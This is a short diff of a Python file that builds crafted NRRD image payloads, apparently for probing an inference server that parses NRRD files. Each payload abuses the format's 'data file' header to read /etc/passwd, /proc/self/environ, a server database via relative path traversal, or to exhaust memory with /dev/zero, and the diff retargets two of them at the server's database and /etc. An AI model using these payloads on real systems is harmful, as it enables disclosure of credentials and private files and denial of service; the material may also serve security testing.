@@ -105,11 +105,11 @@ def leak_nrrd(target: str, sizes: str = "64 1 1") -> bytes:
 
 LEAKS = {
     "etc-passwd": leak_nrrd("/etc/passwd"),
-    "relative-db": leak_nrrd("../../sessions.sqlite"),
+    "relative-db": leak_nrrd("../../inferserver.db"),
     "proc-environ": leak_nrrd("/proc/self/environ"),
     "dev-zero-huge": leak_nrrd("/dev/zero", "1024 1024 1000"),
     "list": b"NRRD0004\ntype: uint8\ndimension: 3\nsizes: 64 1 1\nencoding: raw\ndata file: LIST\n/etc/passwd\n\n",
-    "pattern": leak_nrrd("/etc/passw%c 100 100 1"),
+    "pattern": leak_nrrd("../../../../../../../etc/%03d 1 64 1"),
 }
 
 
